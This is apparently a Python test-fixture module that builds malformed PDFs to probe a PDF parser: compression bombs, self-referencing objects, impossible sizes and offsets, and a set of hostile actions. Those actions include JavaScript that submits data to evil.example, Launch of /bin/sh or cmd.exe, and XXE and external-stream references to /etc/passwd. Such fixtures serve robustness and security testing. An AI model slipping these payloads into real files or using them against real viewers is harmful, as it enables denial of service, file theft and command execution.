"""Hostile PDFs, written object by object."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Sequence

HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"", box: bytes = b"[0 0 600 800]") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Contents 4 0 R " + extra + b" >>"


def stream(content: bytes, extra: bytes = b"", *, length: bytes | None = None) -> bytes:
    told = str(len(content)).encode() if length is None else length
    return b"<< /Length " + told + b" " + extra + b" >>\nstream\n" + content + b"\nendstream"


def flate(content: bytes, extra: bytes = b"", *, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [" + b" /FlateDecode" * times + b"] " + extra)


def form(content: bytes, resources: bytes = b"", extra: bytes = b"") -> bytes:
    about = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << " + resources + b" >> " + extra
    return stream(content, about)


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"", xref: bytes | None = None) -> bytes:
    """The objects, numbered from 1, with a cross-reference table, or with `xref` in place of it."""
    content, offsets = HEAD, []
    for number, each in enumerate(objects, start=1):
        offsets.append(len(content))
        content += f"{number} 0 obj\n".encode() + each + b"\nendobj\n"
    start = len(content)
    if xref is None:
        xref = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
        xref += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    end = b"trailer << /Root 1 0 R /Size " + str(len(objects) + 1).encode() + b" " + trailer + b" >>\n"
    return content + xref + end + b"startxref\n" + str(start).encode() + b"\n%%EOF"


def one_page(contents: bytes, *more: bytes, extra: bytes = b"", box: bytes = b"[0 0 600 800]") -> bytes:
    return pdf([CATALOG, PAGES, page(extra, box), contents, *more])


NOTHING = stream(b"0 0 9 9 re f")


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that become large, or take for ever."""
    yield "content of 300 MB", one_page(flate(b"0 0 9 9 re f\n" * 23_000_000))
    yield "packed three times", one_page(flate(bytes(50_000_000), times=3))
    yield "millions of lines", one_page(flate(b"0 0 m 600 800 l S\n" * 2_000_000))
    yield "millions of curves", one_page(flate(b"0 0 m 0 900 700 900 600 0 c S\n" * 700_000))
    laughs = [b"/XObject << /F 5 0 R >>"]
    forms = [form(b"/F Do " * 10, f"/XObject << /F {6 + level} 0 R >>".encode()) for level in range(11)]
    yield (
        "billion laughs",
        one_page(
            stream(b"/F Do"), *forms, form(b"0 0 9 9 re f"), extra=b"/Resources << " + laughs[0] + b" >>"
        ),
    )
    picture = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    shown = b"/Resources << /XObject << /I 5 0 R >> >>"
    draw = stream(b"q 600 0 0 800 0 0 cm /I Do Q")
    yield "picture of 900 million pixels", one_page(draw, flate(bytes(900_000), picture), extra=shown)
    jbig = picture.replace(b"/DeviceRGB", b"/DeviceGray").replace(
        b"/BitsPerComponent 8", b"/BitsPerComponent 1"
    )
    yield (
        "picture in a broken JBIG2",
        one_page(draw, stream(bytes(range(256)) * 40, jbig + b" /Filter /JBIG2Decode"), extra=shown),
    )
    yield (
        "picture in a broken JPEG 2000",
        one_page(
            draw,
            stream(b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(300), picture + b" /Filter /JPXDecode"),
            extra=shown,
        ),
    )
    predictor = b"/DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 32 >> "
    yield "columns beyond all numbers", one_page(flate(bytes(9000), predictor))
    tile = stream(
        b"0 0 1 1 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>",
    )
    yield (
        "a million tiles",
        one_page(
            stream(b"/Pattern cs /P scn 0 0 600 800 re f"),
            tile,
            extra=b"/Resources << /Pattern << /P 5 0 R >> >>",
        ),
    )
    shading = (
        b"/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >> >>"
    )
    power = b"{ " + b"dup mul " * 20_000 + b"}"
    about = b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]"
    yield "a shading that computes", one_page(stream(b"/S sh"), stream(power, about), extra=shading)
    yield (
        "ten thousand pages",
        pdf(
            [CATALOG, b"<< /Type /Pages /Count 10000 /Kids [" + b"3 0 R " * 10_000 + b"] >>", page(), NOTHING]
        ),
    )
    yield "objects in objects", pdf([CATALOG, PAGES, page(b"/X " + b"[" * 100_000 + b"]" * 100_000), NOTHING])
    yield "dashes without length", one_page(stream(b"[0.00001] 0 d 0 0 m 600 800 l S"))
    yield "a clip of clips", one_page(flate(b"q 0 0 600 800 re W n\n" * 300_000))


def cycles() -> Iterator[tuple[str, bytes]]:
    """Things that hold themselves."""
    yield "pages that hold themselves", pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
    nested = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>"
    yield "pages in a ring", pdf([CATALOG, nested, nested.replace(b"[3 0 R]", b"[2 0 R]")])
    drawn = b"/Resources << /XObject << /F 5 0 R >> >>"
    own = b"/XObject << /F 5 0 R >>"
    yield "a form that draws itself", one_page(stream(b"/F Do"), form(b"/F Do", own), extra=drawn)
    state = b"/ExtGState << /G << /SMask << /Type /Mask /S /Alpha /G 5 0 R >> >> >>"
    masked = form(b"/G gs 0 0 99 99 re f", state, b"/Group << /S /Transparency >>")
    yield "a mask of itself", one_page(stream(b"/F Do"), masked, extra=drawn)
    yield "a length that is itself", pdf([CATALOG, PAGES, page(), stream(b"0 0 9 9 re f", length=b"4 0 R")])
    yield "a page that is its own content", pdf([CATALOG, PAGES, page().replace(b"4 0 R", b"3 0 R")])
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> "
    font += b"/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /T 5 0 R >> >> >>"
    text = b"BT /T 9 Tf (aaaa) Tj ET"
    yield (
        "letters written in themselves",
        one_page(
            stream(text),
            font,
            stream(b"9 0 0 0 9 9 d1 " + text),
            extra=b"/Resources << /Font << /T 5 0 R >> >>",
        ),
    )
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] >>"
    yield (
        "a font that descends from itself",
        one_page(stream(text), font, extra=b"/Resources << /Font << /T 5 0 R >> >>"),
    )
    whole = one_page(NOTHING)
    back = whole.rindex(b"startxref\n") + 10
    start = whole[back:].split(b"\n")[0]
    yield "tables in a ring", whole.replace(b"trailer << ", b"trailer << /Prev " + start + b" ")
    looped = b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>"
    yield (
        "an outline in a ring",
        pdf(
            [
                looped,
                PAGES,
                page(),
                NOTHING,
                b"<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Parent 5 0 R /Title (x) >>",
            ]
        ),
    )
    space = b"/Resources << /ColorSpace << /C [/Indexed 5 0 R 1 <0011>] >> >>"
    yield (
        "a colour space of itself",
        one_page(stream(b"/C cs 1 sc 0 0 9 9 re f"), b"[/ICCBased 5 0 R]", extra=space),
    )


def lies() -> Iterator[tuple[str, bytes]]:
    """Numbers that can't be, and things that aren't there."""
    for count in (b"-1", b"0", b"999999999999", b"(x)"):
        yield (
            f"{count.decode()} pages",
            pdf([CATALOG, PAGES.replace(b"/Count 1", b"/Count " + count), page(), NOTHING]),
        )
    for box in (
        b"[0 0 0 0]",
        b"[0 0 1e9 1e9]",
        b"[0 0 -600 -800]",
        b"[0 0 nan inf]",
        b"[]",
        b"(x)",
        b"[0 0 20000 20000]",
    ):
        yield f"a page of {box.decode()}", one_page(NOTHING, box=box)
    yield "a length of 4 GB", pdf([CATALOG, PAGES, page(), stream(b"0 0 9 9 re f", length=b"4294967296")])
    yield "a length below nought", pdf([CATALOG, PAGES, page(), stream(b"0 0 9 9 re f", length=b"-9")])
    yield "no table", pdf([CATALOG, PAGES, page(), NOTHING], xref=b"")
    yield "a table of 4 billion", pdf([CATALOG, PAGES, page(), NOTHING], xref=b"xref\n0 4294967295\n")
    whole = one_page(NOTHING)
    start = whole.rindex(b"startxref")
    for offset in (b"99999999999999999999", b"-1", b"0"):
        yield f"a table at {offset.decode()}", whole[:start] + b"startxref\n" + offset + b"\n%%EOF"
    yield "no root", whole.replace(b"/Root 1 0 R", b"/Root 99 0 R")
    yield "a root that is a page", whole.replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield (
        "locked by nobody knows what",
        pdf(
            [CATALOG, PAGES, page(), NOTHING, b"<< /Filter /Evil /V 99 /Length 4096 /O (x) /U (x) /P 0 >>"],
            trailer=b"/Encrypt 5 0 R /ID [(a) (b)]",
        ),
    )
    yield (
        "text that is a million letters",
        one_page(flate(b"BT /Helvetica 1 Tf (" + b"x" * 1_000_000 + b") Tj ET")),
    )
    yield "only a header", HEAD
    yield "only an end", b"%PDF-1.4\n%%EOF"


def acts() -> Iterator[tuple[str, bytes]]:
    """What a viewer might be talked into doing."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.example'\\)) >>"
    for name, action in (
        ("a script", script),
        ("a program", b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
        ("a file's address", b"<< /S /URI /URI (file:///etc/passwd) >>"),
        ("another file", b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>"),
    ):
        yield (
            f"{name} on opening",
            pdf([CATALOG.replace(b">>", b"/OpenAction " + action + b" >>"), PAGES, page(), NOTHING]),
        )
    xfa = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
    filled = CATALOG.replace(b">>", b"/AcroForm << /XFA 5 0 R /Fields [] >> >>")
    yield "a form with entities", pdf([filled, PAGES, page(), NOTHING, stream(xfa)])
    external = b"<< /F (/etc/passwd) /FFilter /None /Length 0 >>\nstream\n\nendstream"
    yield "content from another file", pdf([CATALOG, PAGES, page(), external])
    reference = form(b"", b"", b"/Ref << /F (/etc/passwd) /Page 0 >>")
    yield (
        "a form from another file",
        one_page(stream(b"/F Do"), reference, extra=b"/Resources << /XObject << /F 5 0 R >> >>"),
    )
